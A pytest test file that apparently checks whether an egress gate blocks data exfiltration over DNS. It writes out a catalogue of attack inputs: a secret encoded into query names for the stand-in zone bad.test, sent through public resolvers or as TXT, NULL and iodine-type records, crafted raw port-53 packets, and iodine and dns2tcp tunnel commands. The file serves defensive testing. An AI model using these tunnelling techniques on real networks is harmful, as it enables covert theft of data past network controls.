# SPDX-License-Identifier: Apache-2.0
"""Data in DNS: below names that aren't allowed, below those that are, in record types that carry bytes, in what is no DNS at all."""

import json

import pytest

from lab import v4

from .packets import SECRET

NAME = SECRET.decode()
LONG = ".".join([NAME + "x" * 50] * 3)
# technique: (server, name, type), reason; the gate's own server when None
QUERIES = {
    "DNS name below a zone of one's own": ((None, f"{NAME}.bad.test", 1), "not_allowed"),
    "DNS through a public resolver": (("8.8.8.8", f"{NAME}.bad.test", 1), "not_allowed"),
    "DNS through a public resolver over IPv6": (("2001:4860:4860::8888", f"{NAME}.bad.test", 28), "not_allowed"),
    "DNS straight to the zone's server": ((v4("dns"), f"{NAME}.bad.test", 16), "not_allowed"),
    "DNS name of 253 bytes": ((None, f"{LONG}.{'y' * (252 - len(LONG) - 9)}.bad.test", 1), "not_allowed"),
    "DNS NULL record": ((None, f"{NAME}.bad.test", 10), "not_allowed"),
    "DNS TXT record": ((None, f"{NAME}.bad.test", 16), "not_allowed"),
    "DNS MX, SRV, CNAME records": ((None, f"{NAME}.bad.test", 33), "not_allowed"),
    "DNS private type 65399 (iodine)": ((None, f"{NAME}.bad.test", 65399), "not_allowed"),
    "DNS reverse zone": ((None, f"{NAME}.80.114.0.203.in-addr.arpa", 12), "not_allowed"),
    "DNS ANY of an allowed name": ((None, "ok.test", 255), "dns_type"),
    "DNS zone transfer of an allowed name": ((None, "ok.test", 252), "dns_type"),
}
# technique: bytes to port 53
RAW = {
    "not DNS at all on port 53 (raw bytes)": SECRET * 10, "iodine's raw mode": b"\x10\xd1\x9e\x10" + SECRET,
    "DNS answer instead of a question": bytes.fromhex("123484000001000000000000") + b"\3bad\4test\0\0\1\0\1" + SECRET,
    "DNS UPDATE": bytes.fromhex("123428000001000000000000") + b"\3bad\4test\0\0\6\0\1", "DNS NOTIFY": bytes.fromhex("123420000001000000000000") + b"\3bad\4test\0\0\6\0\1",
    "DNS with data behind the question": bytes.fromhex("123401000001000000000000") + b"\2ok\4test\0\0\1\0\1" + SECRET,
    "DNS with two questions": bytes.fromhex("123401000002000000000000") + b"\2ok\4test\0\0\1\0\1" + b"\x0c" + SECRET + b"\3bad\4test\0\0\1\0\1",
    "DNS of class CHAOS": bytes.fromhex("123401000001000000000000") + b"\7version\4bind\0\0\x10\0\3",
}

ASK = """
    for server, name, qtype in json.loads(sys.argv[1]):
        reply = dns_read(dns_udp(dns_query(name, qtype), server))
        show(rcode=reply["rcode"], answers=reply["answers"])
"""


def test_queries(attack):
    with attack("DNS") as attempt:
        replies = attempt.python(ASK, json.dumps([query for query, _ in QUERIES.values()]))
    assert [reply["answers"] for reply in replies] == [[]] * len(QUERIES)
    assert attempt.asked == []
    denials = attempt.result.of("decision", door="dns", verdict="deny")
    assert [record["reason"] for record in denials] == [reason for _, reason in QUERIES.values()]
    for (technique, (_, reason)), record in zip(QUERIES.items(), denials):
        attempt.recorded("decision", technique, seq=record["seq"])


def test_raw(attack):
    with attack("DNS by hand") as attempt:
        attempt.python("""
            for data in json.loads(sys.argv[1]):
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                    sock.sendto(bytes.fromhex(data), ("203.0.114.53", 53))
            dns_udp(dns_query("ok.test"))
        """, json.dumps([data.hex() for data in RAW.values()]))
    assert attempt.asked == []
    denials = attempt.result.of("decision", door="dns", verdict="deny")
    assert len(denials) == len(RAW), [record["reason"] for record in denials]
    for technique, record in zip(RAW, denials):
        attempt.recorded("decision", technique, seq=record["seq"])


def test_below_an_allowed_wildcard(attack):
    """Answered by the gate itself: nobody is asked, as long as nobody connects."""
    with attack("DNS names below an allowed wildcard") as attempt:
        replies = attempt.python(ASK, json.dumps([(None, f"{NAME}-{number}.wild.test", 1) for number in range(50)]))
    assert all(len(reply["answers"]) == 1 for reply in replies) and attempt.asked == []
    assert len(attempt.recorded("decision", door="dns", verdict="allow")) == 50
    attempt.note("answered by the gate, asked nobody")


@pytest.mark.parametrize("zone", ["bad.test", "t.wild.test"])
@pytest.mark.parametrize("kind", ["TXT", "NULL", "A"])
def test_iodine(attack, zone, kind):
    with attack(f"DNS tunnel (iodine) of {kind} records, {'allowed wildcard' if 'wild' in zone else 'zone of its own'}") as attempt:
        def asked():
            return len(attempt.records("decision", door="dns")) > 3
        done = attempt.run(["iodine", "-f", "-r", "-T", kind, "-P", "secret", v4("dns"), zone], until=asked)
    assert attempt.asked == []
    if not attempt.root:
        assert not attempt.result.of("decision"), done
        attempt.refused("no tun device")
    elif "wild" in zone:
        attempt.recorded("decision", door="dns")
        attempt.note("answered by the gate, asked nobody")
    else:
        attempt.recorded("decision", door="dns", verdict="deny")


@pytest.mark.parametrize("kind", ["TXT", "KEY"])
def test_dns2tcp(attack, kind):
    with attack(f"DNS tunnel (dns2tcp) of {kind} records") as attempt:
        attempt.run(["dns2tcpc", "-z", "bad.test", "-T", kind, "-t", "1", "-d", "1", v4("dns")], until=lambda: attempt.records("decision", door="dns"))
    assert attempt.asked == []
    attempt.recorded("decision", door="dns", verdict="deny")
